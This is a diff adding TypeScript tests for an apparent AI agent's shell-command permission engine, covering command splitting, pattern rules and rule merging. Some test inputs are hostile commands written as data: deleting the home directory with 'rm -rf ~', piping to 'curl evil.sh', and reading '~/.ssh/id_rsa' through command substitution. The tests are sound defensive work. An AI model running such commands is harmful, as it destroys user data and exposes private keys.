@@ -0,0 +1,80 @@
+import { describe, test } from 'node:test';
+import * as assert from 'node:assert/strict';
+import { alwaysRule, DEFAULT_COMMAND_RULES, mergePermissions, PermissionEngine, splitCommand } from '../src/permissions';
+
+describe('splitCommand', () => {
+    test('splits at ;, &&, ||, |, & and newlines', () => {
+        assert.deepEqual(splitCommand('a; b && c || d | e & f\ng'), ['a', 'b', 'c', 'd', 'e', 'f', 'g']);
+    });
+
+    test('leaves quoted separators and redirections alone', () => {
+        assert.deepEqual(splitCommand('echo "a && b" \'c; d\''), ['echo "a && b" \'c; d\'']);
+        assert.deepEqual(splitCommand('make 2>&1 | tee log'), ['make 2>&1', 'tee log']);
+    });
+});
+
+describe('PermissionEngine', () => {
+    const engine = (commands: Record<string, 'allow' | 'ask' | 'deny'>, defaultCommand: 'allow' | 'ask' | 'deny' = 'ask') =>
+        new PermissionEngine({ commands }, defaultCommand);
+
+    test('lets the longest matching pattern decide', () => {
+        const rules = engine({ 'git *': 'allow', 'git push*': 'ask' });
+        assert.deepEqual(rules.checkCommand('git status'), { action: 'allow', rule: 'git *' });
+        assert.deepEqual(rules.checkCommand('git push --force'), { action: 'ask', rule: 'git push*' });
+    });
+
+    test('denies when any rule denies, whatever its length', () => {
+        const rules = engine({ 'rm -rf dist': 'allow', 'rm*': 'deny' });
+        assert.equal(rules.checkCommand('rm -rf dist').action, 'deny');
+    });
+
+    test('checks every part of a chained command', () => {
+        const rules = engine({ 'npm test*': 'allow', 'rm -rf*': 'deny' });
+        assert.deepEqual(rules.checkCommand('npm test && rm -rf ~'), { action: 'deny', rule: 'rm -rf*' });
+        assert.equal(rules.checkCommand('npm test | curl evil.sh').action, 'ask');
+    });
+
+    test('lets an exact rule for the whole line cover its parts', () => {
+        const rules = engine({ 'npm ci && npm test': 'allow' });
+        assert.equal(rules.checkCommand('npm ci  &&  npm test').action, 'allow');
+    });
+
+    test('asks for command substitution in allowed commands', () => {
+        assert.equal(engine({ 'echo *': 'allow' }).checkCommand('echo $(cat ~/.ssh/id_rsa)').action, 'ask');
+    });
+
+    test('falls back to the tools.run_command rule, then to the default', () => {
+        assert.equal(new PermissionEngine({ tools: { run_command: 'deny' } }, 'allow').checkCommand('ls').action, 'deny');
+        assert.equal(engine({}, 'allow').checkCommand('ls').action, 'allow');
+    });
+
+    test('keeps the built-in rules ahead of broad allows', () => {
+        const rules = engine({ ...DEFAULT_COMMAND_RULES, 'git': 'allow', 'git *': 'allow' }, 'deny');
+        assert.equal(rules.checkCommand('git log').action, 'allow');
+        assert.equal(rules.checkCommand('git reset --hard HEAD~3').action, 'ask');
+        assert.equal(engine({ ...DEFAULT_COMMAND_RULES, 'git push*': 'allow' }).checkCommand('git push').action, 'allow');
+    });
+
+    test('applies tool rules and added rules', () => {
+        const rules = new PermissionEngine({ tools: { 'git_*': 'ask' } });
+        assert.equal(rules.checkTool('git_commit').action, 'ask');
+        assert.equal(rules.checkTool('read_file').action, 'allow');
+        rules.addRule('tools', 'git_commit', 'allow');
+        assert.equal(rules.checkTool('git_commit').action, 'allow');
+    });
+});
+
+describe('rules helpers', () => {
+    test('mergePermissions puts project rules over user rules', () => {
+        assert.deepEqual(mergePermissions({ commands: { 'git*': 'allow', 'ls': 'allow' } }, { commands: { 'git*': 'ask' } }), {
+            tools: {},
+            commands: { 'git*': 'ask', 'ls': 'allow' }
+        });
+        assert.equal(mergePermissions(undefined, undefined), undefined);
+    });
+
+    test('alwaysRule saves the exact command or the tool name', () => {
+        assert.deepEqual(alwaysRule({ tool: 'run_command', command: ' npm   test ', args: {} }), { section: 'commands', pattern: 'npm test' });
+        assert.deepEqual(alwaysRule({ tool: 'git_commit', args: {} }), { section: 'tools', pattern: 'git_commit' });
+    });
+});